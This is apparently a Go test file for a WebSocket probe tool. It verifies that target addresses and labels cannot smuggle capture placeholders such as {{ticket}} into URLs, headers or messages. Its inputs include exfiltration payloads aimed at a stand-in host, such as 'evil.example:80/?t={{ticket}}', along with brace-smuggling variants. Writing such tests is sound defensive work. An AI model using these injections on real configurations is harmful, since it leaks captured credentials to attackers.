package config

import (
	"strings"
	"testing"

	"github.com/wsprobe/wsprobe/config/discovery"
)

// TestTargetsAreNoTemplates: whoever lists targets has no secret sent to a place of his choice. No text of a target is
// a placeholder of a capture, alone or with the text around it, wherever an alias puts it.
func TestTargetsAreNoTemplates(t *testing.T) {
	clearEnvironment(t)
	const captures = "prepare: {url: 'https://login.example.com/', capture: {ticket: {json: t}}}\n"
	const exchange = "interpretation: round_trip_latency\nexchange: [{send: 'SEND', expect_pattern: a}]\n"
	for name, test := range map[string]struct {
		discover, module string
		address          string
		a, b             string // labels
		where            string // of the refusal, or empty
	}{
		"address, by default":    {"", captures, "evil.example:80/?t={{ticket}}", "", "", "url"},
		"address, a URL":         {"", captures, "wss://evil.example/{{ ticket }}", "", "", "url"},
		"url":                    {", url: 'wss://h/{{target.label.a}}'", captures, "h", "{{ticket}}", "", "url"},
		"url, two labels":        {", url: 'wss://h/{{target.label.a}}{{target.label.b}}'", captures, "h", "{", "{ticket}}", "url"},
		"url, with braces of it": {", url: 'wss://h/{{{target.label.a}}'", captures, "h", "{ticket}}", "", "url"},
		"url, quoted braces":     {", url: 'wss://h/{{target.label.a}}'", captures, "h", `{{"{{"}}`, "", "url"},
		"url, an unknown name":   {", url: 'wss://h/{{target.label.a}}'", captures, "h", "{{other}}", "", "url"},
		"headers":                {"", captures + "headers: {X-A: '{{target.label.a}}'}", "h", "{{ticket}}", "", "headers.X-A"},
		"protocols":              {"", captures + "protocols: ['{{target.label.a}}']", "h", "{{ticket}}", "", "protocols[0]"},
		"connections":            {"", captures + "connections: {other: {url: 'wss://h/{{target.label.a}}'}}\n" + strings.Replace(exchange, "send: 'SEND'", "on: other", 1), "h", "{{ticket}}", "", "connections.other.url"},
		"message":                {"", captures + "interpretation: round_trip_latency\nsend_message: '{{target.label.a}}'", "h", "{{ticket}}", "", "send_message"},
		"own captures":           {", url: 'wss://h/{{ticket}}?{{target.label.a}}'", captures, "h", "x", "", ""},
		"braces":                 {", url: 'wss://h/{{target.label.a}}'", captures, "h", "{}", "", ""},
		"without captures":       {", url: 'wss://h/{{target.label.a}}'", "", "h", "{{ticket}}", "", ""},

		"exchange":                     {"", captures + strings.Replace(exchange, "SEND", "{{target.label.a}}", 1), "h", "{{ticket}}", "", ""},
		"exchange, two labels":         {"", strings.Replace(exchange, "SEND", "{{target.label.a}}{{target.label.b}}", 1), "h", "{", "{nonce}}", "exchange[0].send"},
		"exchange, with braces of it":  {"", strings.Replace(exchange, "SEND", "{{{target.label.a}}", 1), "h", "{nonce}}", "", "exchange[0].send"},
		"exchange, an alias":           {"", "labels: {send: &l '{{target.label.a}}'}\n" + strings.Replace(exchange, "'SEND'", "*l", 1), "h", "{{nonce}}", "", ""},
		"exchange, an object in JSON":  {"", strings.Replace(exchange, "SEND", `{"a":{"b":"{{target.label.a}}"}}`, 1), "h", `{"c":{}}`, "", ""},
		"a heartbeat, two labels":      {"", "session: {heartbeat: {interval: 10s, send: '{{target.label.a}}{{target.label.b}}'}}", "h", "{", "{nonce}}", "session.heartbeat.send"},
		"a heartbeat, a name in pairs": {"", "session: {heartbeat: {interval: 10s, send: '{{{{target.label.a}}}}'}}", "h", "nonce", "", "session.heartbeat.send"},
	} {
		t.Run(name, func(t *testing.T) {
			d := discoverOf(t, test.discover, test.module+"\n")
			p, err := d.Probe(discovery.Target{Address: test.address, Labels: map[string]string{"a": test.a, "b": test.b}})
			switch {
			case test.where == "" && err != nil:
				t.Error(err)
			case test.where != "" && (err == nil || !strings.Contains(err.Error(), test.where+": would have a placeholder by the text of target.")):
				t.Errorf("%v, want a fault of %s\n%+v", err, test.where, p.Spec)
			}
			if name == "exchange, an alias" && *p.Spec.Exchange[0].Send != `{{"{{"}}nonce}}` {
				t.Errorf("sends %s", *p.Spec.Exchange[0].Send)
			}
		})
	}

	m := discoverOf(t, "", captures).Module
	if _, err := m.ProbeURL("a", "wss://h/{{ticket}}"); err == nil || !strings.Contains(err.Error(), "url: must not have a placeholder, because the module has captures") {
		t.Errorf("a target of /probe: %v", err)
	}
	if _, err := m.ProbeURL("a", "wss://h/{}"); err != nil {
		t.Errorf("a target of /probe: %v", err)
	}
}
